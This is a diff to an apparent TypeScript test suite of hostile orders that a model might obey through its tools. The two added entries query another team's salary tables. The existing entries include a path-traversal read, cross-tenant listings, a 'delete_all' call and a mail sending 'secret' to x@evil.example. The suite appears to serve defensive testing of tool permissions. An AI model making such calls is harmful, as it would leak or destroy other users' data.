@@ -56,6 +56,8 @@ const attempts: readonly (readonly [order: string, obeyed: (request: ModelReques
   ['Read with a path', () => [call('read_around', { card_id: '../../999', before: -9, after: 1e9 })]],
   ['List their cards', () => [call('list_cards', { words: 'salar', type: 'any', page: 1, collection_id: 4 })]],
   ['List their documents', () => [call('list_documents', { collection_id: 4, team_id: 8 })]],
+  ['Describe their tables', () => [call('describe_tables', { query: 'salaries', team_id: 8, collection_id: 4 })]],
+  ['Query their table', () => [call('query_table', { table: '999-0', program: { value: { op: 'count' } } })]],
   ['Delete everything', () => [call('delete_all', { sure: true })]],
   ['Send a mail', () => [call('send_mail', { to: 'x@evil.example', body: 'secret' })]],
 ];
